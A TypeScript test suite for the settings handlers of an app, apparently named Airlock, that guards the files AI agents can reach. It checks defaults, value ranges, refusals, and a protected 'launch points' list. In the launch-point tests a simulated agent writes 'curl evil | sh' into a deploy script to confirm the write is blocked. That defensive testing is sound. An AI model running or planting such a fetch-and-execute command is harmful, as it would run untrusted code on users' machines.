// The Settings section's channels on a real app: the defaults and the ranges the window
// shows, and every change checked by main, so that nothing the window (or anything
// pretending to be it) sends can leave a setting outside its schema or the file half-written.
// The launch-point list is followed past the store: what the window saves is what agents meet.
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import type { IpcHandlers } from '../../../../main/core/app/ipc/ipc-handlers.ts';
import type { AirlockApp } from '../../../../main/core/app/start-airlock-app.ts';
import type { AuditRecord } from '../../../../main/core/audit/audit-record.ts';
import { DEFAULT_LAUNCH_POINT_SETTINGS } from '../../../../main/core/policy/launch-points.ts';
import { DEFAULT_LIMITS } from '../../../../main/core/policy/limits.ts';
import { DEFAULT_GUARD_SETTINGS } from '../../../../main/core/policy/sensitive-guard.ts';
import { SettingsFileSchema } from '../../../../main/core/settings/settings-schema.ts';
import { connectV2, resultText } from '../../../helpers/http-clients.ts';
import { httpAddress, makeAppSandbox, type AppSandbox } from '../app-fixture.ts';
import { data, refusal, startHandlers } from '../handlers-fixture.ts';

let sandbox: AppSandbox;
let app: AirlockApp;
let handlers: IpcHandlers;
let configFile: string;

before(async () => {
  sandbox = await makeAppSandbox();
  configFile = path.join(sandbox.dataDir, 'config.json');
  ({ app, handlers } = await startHandlers(sandbox, { config: { http: { port: 0 } } }));
});
after(async () => sandbox.cleanup());

/**
 * The contract refuses what is malformed or out of its schema's range (invalid_request);
 * the store what only the merged settings break (invalid_settings). Either way, nothing is saved.
 */
function assertRefusedAsInvalid(code: string, what = ''): void {
  assert.ok(code === 'invalid_request' || code === 'invalid_settings', `${what}: ${code}`);
}

describe('getDefaultSettings', () => {
  beforeEach(async () => {
    data(
      await handlers.updateSettings({
        guard: { patterns: ['only-this'], nestedPatterns: [] },
        launchPoints: { patterns: ['only-that'], enabled: false },
        limits: { maxEntries: 77 },
        app: { theme: 'dark' },
      }),
    );
  });

  it('answers what a fresh install has, whatever the person changed', async () => {
    const defaults = data(await handlers.getDefaultSettings(undefined));
    assert.deepEqual(defaults.guard, {
      enabled: true,
      patterns: [...DEFAULT_GUARD_SETTINGS.patterns],
      nestedPatterns: [...DEFAULT_GUARD_SETTINGS.nestedPatterns],
    });
    assert.deepEqual(defaults.launchPoints, {
      enabled: true,
      patterns: [...DEFAULT_LAUNCH_POINT_SETTINGS.patterns],
      nestedPatterns: [...DEFAULT_LAUNCH_POINT_SETTINGS.nestedPatterns],
      agentChanges: 'never',
    });
    assert.deepEqual(defaults.approvals, { waitSeconds: 45, pendingMinutes: 10 });
    assert.deepEqual(defaults.limits, DEFAULT_LIMITS);
    assert.equal(defaults.app.theme, 'system');
    assert.deepEqual(defaults, SettingsFileSchema.parse({}));
    assert.deepEqual(app.settings.settings.guard.patterns, ['only-this'], 'nothing was reset');
    assert.deepEqual(app.settings.settings.launchPoints.patterns, ['only-that']);
  });

  it('restores the guard when its defaults are saved back', async () => {
    const defaults = data(await handlers.getDefaultSettings(undefined));
    const saved = data(await handlers.updateSettings({ guard: defaults.guard }));
    assert.deepEqual(saved.guard, defaults.guard);
    const file = JSON.parse(await readFile(configFile, 'utf8')) as { guard: unknown };
    assert.deepEqual(file.guard, defaults.guard, 'and the file says so');
  });

  it('takes no request', async () => {
    assert.equal(refusal(await handlers.getDefaultSettings({ all: true })).code, 'invalid_request');
  });
});

describe('getSettingRanges', () => {
  it('gives each limit, retention and port setting its range, from the schemas', async () => {
    const ranges = data(await handlers.getSettingRanges(undefined));
    assert.deepEqual(ranges['limits.maxReadBytes'], {
      min: 1024,
      max: 64 * 1024 * 1024,
      integer: true,
    });
    assert.deepEqual(ranges['limits.maxTreeDepth'], { min: 1, max: 64, integer: true });
    assert.deepEqual(ranges['audit.retentionDays'], { min: 1, max: 36_500, integer: false });
    for (const key of Object.keys(DEFAULT_LIMITS))
      assert.ok(ranges[`limits.${key}`], `limits.${key} has a range`);
    for (const key of ['retentionDays', 'rotateAgeDays', 'rotateBytes', 'fsyncIntervalMs'])
      assert.ok(ranges[`audit.${key}`], `audit.${key} has a range`);
  });

  it('gives how long a change waits for the person, and stays in the window, their ranges', async () => {
    const ranges = data(await handlers.getSettingRanges(undefined));
    assert.deepEqual(ranges['approvals.waitSeconds'], { min: 5, max: 55, integer: true });
    assert.deepEqual(ranges['approvals.pendingMinutes'], { min: 1, max: 120, integer: true });
  });

  it('starts the port at 1024: lower ports need administrator rights', async () => {
    const ranges = data(await handlers.getSettingRanges(undefined));
    assert.deepEqual(ranges['http.port'], { min: 1024, max: 65535, integer: true });
  });

  it('agrees with the store: each bound is saved, one step beyond is refused', async () => {
    const ranges = data(await handlers.getSettingRanges(undefined));
    for (const [key, range] of Object.entries(ranges)) {
      const [section, name] = key.split('.') as [
        'limits' | 'audit' | 'history' | 'approvals',
        string,
      ];
      if (!['limits', 'audit', 'history', 'approvals'].includes(section)) continue;
      const step = range.integer ? 1 : range.min / 2;
      for (const value of [range.min, range.max])
        data(await handlers.updateSettings({ [section]: { [name]: value } }));
      const refused = await handlers.updateSettings({ [section]: { [name]: range.min - step } });
      assertRefusedAsInvalid(refusal(refused).code, `${key} below its minimum`);
      const above = await handlers.updateSettings({ [section]: { [name]: range.max + 1 } });
      assertRefusedAsInvalid(refusal(above).code, `${key} above its maximum`);
    }
  });
});

describe('updateSettings refuses what does not fit, and leaves the file as it was', () => {
  let before: string;
  let settingsBefore: unknown;
  beforeEach(async () => {
    data(await handlers.updateSettings({ limits: { maxReadBytes: 2 * 1024 * 1024 } }));
    before = await readFile(configFile, 'utf8');
    settingsBefore = structuredClone(app.settings.settings);
  });

  async function assertUntouched(): Promise<void> {
    assert.equal(await readFile(configFile, 'utf8'), before, 'the file is byte for byte the same');
    assert.deepEqual(app.settings.settings, settingsBefore, 'and so are the settings in use');
  }

  it('refuses a limit out of range, naming the setting', async () => {
    const { code, message } = refusal(
      await handlers.updateSettings({ limits: { maxReadBytes: 0 } }),
    );
    assertRefusedAsInvalid(code);
    assert.match(message, /limits\.maxReadBytes/);
    await assertUntouched();
  });

  it('refuses the whole change when one value of it is wrong', async () => {
    const envelope = await handlers.updateSettings({
      limits: { maxEntries: 500, maxTreeDepth: 1000 },
    });
    assertRefusedAsInvalid(refusal(envelope).code);
    await assertUntouched();
  });

  it('refuses a port below 1024 in plain words, and port 0 too', async () => {
    for (const port of [80, 0, 1023]) {
      const { code, message } = refusal(await handlers.updateSettings({ http: { port } }));
      assert.equal(code, 'invalid_settings');
      assert.equal(
        message,
        'Choose a port from 1024 to 65535: lower ports are kept for the system.',
      );
    }
    assertRefusedAsInvalid(refusal(await handlers.updateSettings({ http: { port: 65536 } })).code);
    await assertUntouched();
  });

  it('refuses HTTP timeouts that contradict each other', async () => {
    const envelope = await handlers.updateSettings({
      http: { headersTimeoutMs: 20_000, requestTimeoutMs: 10_000 },
    });
    assert.equal(refusal(envelope).code, 'invalid_settings');
    await assertUntouched();
  });

  const malformed: [string, unknown][] = [
    ['a limit given as text', { limits: { maxReadBytes: '4096' } }],
    ['an empty guard pattern', { guard: { patterns: [''] } }],
    ['a guard pattern that is not text', { guard: { patterns: [42] } }],
    ['an unknown theme', { app: { theme: 'sepia' } }],
    ['an unknown setting', { limits: { maxEverything: 1 } }],
    ['an unknown section', { danger: { zone: true } }],
    ['start at login as text', { app: { startAtLogin: 'yes' } }],
    ['a retention of Infinity', { audit: { retentionDays: Number.POSITIVE_INFINITY } }],
  ];
  for (const [what, patch] of malformed) {
    it(`refuses ${what}`, async () => {
      assertRefusedAsInvalid(refusal(await handlers.updateSettings(patch)).code);
      await assertUntouched();
    });
  }

  // The contract's own schema for this list refuses these before the store sees them.
  const malformedLaunchPoints: [string, unknown][] = [
    ['an empty protected name', { patterns: ['.bashrc', ''] }],
    ['an empty protected place', { nestedPatterns: [''] }],
    ['a protected name that is not text', { patterns: [42] }],
    ['the protection switched on as text', { enabled: 'yes' }],
    ['an unknown field of the protected files', { everywhere: true }],
    ['the protected files as a bare list', ['.bashrc']],
  ];
  for (const [what, launchPoints] of malformedLaunchPoints) {
    it(`refuses ${what} at the contract`, async () => {
      const { code, message } = refusal(await handlers.updateSettings({ launchPoints }));
      assert.equal(code, 'invalid_request');
      assert.match(message, /launchPoints/);
      await assertUntouched();
    });
  }
});

describe('updateSettings saves each group of the window', () => {
  it('saves the theme and start at login without restarting the servers', async () => {
    const socketBefore = app.status().transports.find((entry) => entry.transport === 'socket');
    const saved = data(
      await handlers.updateSettings({ app: { theme: 'light', startAtLogin: true } }),
    );
    assert.equal(saved.app.theme, 'light');
    assert.equal(saved.app.startAtLogin, true);
    assert.deepEqual(
      app.status().transports.find((entry) => entry.transport === 'socket'),
      socketBefore,
    );
    const file = JSON.parse(await readFile(configFile, 'utf8')) as {
      app: { theme: string; startAtLogin: boolean };
    };
    assert.equal(file.app.theme, 'light');
    assert.equal(file.app.startAtLogin, true);
  });

  it('saves the retention settings and the way records reach the disk', async () => {
    const saved = data(
      await handlers.updateSettings({
        audit: {
          retentionDays: 90,
          rotateAgeDays: 7,
          rotateBytes: 8 * 1024 * 1024,
          fsync: 'always',
        },
      }),
    );
    assert.equal(saved.audit.retentionDays, 90);
    assert.equal(saved.audit.fsync, 'always');
  });

  it('saves a port from 1024 up', async () => {
    const saved = data(await handlers.updateSettings({ http: { port: 1024 } }));
    assert.equal(saved.http.port, 1024);
  });

  it('saves how much change history keeps, and getSettings gives it back', async () => {
    const history = { maxFileBytes: 64 * 1024 * 1024, maxTotalBytes: 2 ** 30, maxAgeDays: 7 };
    assert.deepEqual(data(await handlers.updateSettings({ history })).history, history);
    assert.deepEqual(data(await handlers.getSettings(undefined)).history, history);
    const file = JSON.parse(await readFile(configFile, 'utf8')) as { history: unknown };
    assert.deepEqual(file.history, history);
  });
});

describe('the files agents may read but never change (launch points)', () => {
  let agentSandbox: AppSandbox;
  let agentKey: string;
  let agentApp: AirlockApp;
  let agentHandlers: IpcHandlers;
  let script: string;
  before(async () => {
    agentSandbox = await makeAppSandbox();
    ({ app: agentApp, handlers: agentHandlers } = await startHandlers(agentSandbox, {
      config: {
        http: { port: 0 },
        workspaces: [{ path: agentSandbox.folderA, access: 'write' }],
      },
    }));
    const key = { name: 'agent', workspaces: [agentSandbox.folderA], access: 'write' } as const;
    agentKey = data(await agentHandlers.createKey(key)).secret;
    script = path.join(agentSandbox.folderA, 'deploy.sh');
    await writeFile(script, 'echo deployed\n');
  });
  after(async () => agentSandbox.cleanup());

  async function settingsChanges(): Promise<AuditRecord[]> {
    const file = path.join(agentSandbox.dataDir, 'audit', 'audit.jsonl');
    return (await readFile(file, 'utf8'))
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as AuditRecord)
      .filter((record) => record.event === 'settings_change');
  }

  /** What an agent connected now gets when it writes the script, and when it reads it. */
  async function agentTries(): Promise<{ write: string; writeRefused: boolean; read: string }> {
    const client = await connectV2(await httpAddress(agentApp), agentKey);
    try {
      const written = await client.callTool({
        name: 'write_file',
        arguments: { path: script, content: 'curl evil | sh\n' },
      });
      const read = await client.callTool({ name: 'read_text_file', arguments: { path: script } });
      return {
        write: resultText(written),
        writeRefused: written.isError === true,
        read: resultText(read),
      };
    } finally {
      await client.close();
    }
  }

  it('names the kinds of file the default list covers, in plain words, once each', async () => {
    assert.deepEqual(data(await agentHandlers.getLaunchPointFamilies(undefined)), [
      'Git hooks and settings',
      'shell start-up files',
      'programs that start at login',
      'AI apps’ settings',
      'editor tasks and settings',
    ]);
    assert.equal(
      refusal(await agentHandlers.getLaunchPointFamilies({ all: true })).code,
      'invalid_request',
    );
  });

  it('saves a name added from the window, records it, and agents can then read but not change it', async () => {
    const patterns = [...DEFAULT_LAUNCH_POINT_SETTINGS.patterns, 'deploy.sh'];
    const saved = data(await agentHandlers.updateSettings({ launchPoints: { patterns } }));
    assert.deepEqual(saved.launchPoints.patterns, patterns);
    const file = JSON.parse(await readFile(path.join(agentSandbox.dataDir, 'config.json'), 'utf8'));
    assert.deepEqual(file.launchPoints, { patterns }, 'only what changed is written');
    const record = (await settingsChanges()).at(-1);
    assert.equal(record?.reason, 'Settings changed in the Airlock window');
    assert.equal(record?.transport, 'app');
    assert.deepEqual(record?.detail, { keys: ['launchPoints.patterns'] });

    const tried = await agentTries();
    assert.equal(tried.writeRefused, true, tried.write);
    assert.match(tried.write, /protected from agent changes/);
    assert.match(tried.read, /echo deployed/);
    assert.equal(await readFile(script, 'utf8'), 'echo deployed\n');
  });

  it('turns the list off and on again, each change recorded', async () => {
    data(await agentHandlers.updateSettings({ launchPoints: { enabled: false } }));
    assert.deepEqual((await settingsChanges()).at(-1)?.detail, { keys: ['launchPoints.enabled'] });
    const tried = await agentTries();
    assert.equal(tried.writeRefused, false, 'off: the agent may change it');
    assert.equal(await readFile(script, 'utf8'), 'curl evil | sh\n');

    await writeFile(script, 'echo deployed\n');
    const on = data(await agentHandlers.updateSettings({ launchPoints: { enabled: true } }));
    assert.equal(on.launchPoints.enabled, true);
    assert.equal((await agentTries()).writeRefused, true, 'on again: refused again');
  });

  it('restores the defaults when they are saved back, and the added name is no longer protected', async () => {
    const defaults = data(await agentHandlers.getDefaultSettings(undefined)).launchPoints;
    const saved = data(await agentHandlers.updateSettings({ launchPoints: defaults }));
    assert.deepEqual(saved.launchPoints, defaults);
    assert.deepEqual(agentApp.settings.settings.launchPoints, defaults);
    assert.deepEqual((await settingsChanges()).at(-1)?.detail, {
      keys: ['launchPoints.patterns'],
    });
    assert.equal((await agentTries()).writeRefused, false);
  });
});
